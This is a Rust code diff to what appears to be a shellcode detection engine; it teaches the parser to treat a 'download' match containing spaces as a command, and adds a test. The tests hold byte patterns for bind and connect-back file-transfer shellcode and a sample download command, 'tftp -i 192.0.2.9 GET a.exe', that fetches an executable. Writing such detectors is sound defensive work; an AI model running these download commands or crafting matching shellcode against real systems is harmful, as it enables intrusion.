@@ -354,11 +354,18 @@ fn result(m: &Groups) -> Option<Shellcode> {
         Namespace::Execute => s.command = Some(text::printable(m.text(Item::Command)?, TEXT_MAX)),
         Namespace::Url | Namespace::Download => {
             let u = m.text(Item::Uri)?;
-            // A URL is printable ASCII; anything else is not one.
-            if u.len() > TEXT_MAX || !u.iter().all(|c| c.is_ascii_graphic()) {
+            // A URL is printable ASCII without spaces; a `download` signature may also find
+            // a download command (with spaces), kept as the command.
+            if u.len() > TEXT_MAX || !u.iter().all(|&c| c == b' ' || c.is_ascii_graphic()) {
                 return None;
             }
-            s.url = Some(String::from_utf8_lossy(u).into_owned());
+            let text = String::from_utf8_lossy(u).into_owned();
+            match (ns, u.contains(&b' ')) {
+                (_, false) => s.url = Some(text),
+                (Namespace::Download, true) => s.command = Some(text),
+                (Namespace::Url, true) => return None,
+                _ => unreachable!("only url and download get here"),
+            }
         }
         _ => return None,
     }
@@ -503,6 +510,12 @@ mod tests {
             r#"bindfiletransfer::b { pattern "\\x68\\x02\\x00(..)\\x89\\xE6.(.)"; mapping (none, port, key); };"#,
             r#"connectbackfiletransfer::f { pattern "\\x68(....)\\x68\\x02\\x00(..)\\x6A(....)"; mapping (none, host, port, key); };"#,
         ));
+        let d = engine(r#"download::d { pattern "\\x00(tftp -i [\\x20-\\x7E]+)\\x00"; mapping (none, uri); };"#);
+        let s = scan(&d, b"\x90\x00tftp -i 192.0.2.9 GET a.exe\x00").unwrap();
+        assert_eq!(
+            (s.kind.as_str(), s.command.as_deref(), s.url),
+            ("download", Some("tftp -i 192.0.2.9 GET a.exe"), None)
+        );
         let s = scan(&c, b"xx cmd /c echo hi > a.txt\x00").unwrap();
         assert_eq!(s.command.as_deref(), Some("cmd /c echo hi > a.txt"));
         let s = scan(&c, b"\x68\x02\x00\x1f\x90\x89\xe6\x00\x07").unwrap();
